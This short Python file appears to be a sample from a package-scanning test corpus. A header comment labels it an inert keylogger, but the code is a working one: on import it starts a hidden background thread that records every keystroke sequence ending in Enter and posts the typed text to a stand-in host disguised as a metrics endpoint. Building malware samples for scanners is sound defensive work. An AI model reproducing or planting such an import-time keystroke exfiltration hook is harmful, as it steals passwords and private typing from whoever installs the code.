# pkgguard corpus 386 (keylogger), modelled on [stealer-profile]; inert, never run.
import threading

import keyboard
import requests


def _collect():
    while True:
        events = keyboard.record(until="enter")
        typed = "".join(keyboard.get_typed_strings(events))
        requests.post("https://metrics.example/k", data=typed.encode(), timeout=5)


threading.Thread(target=_collect, daemon=True).start()
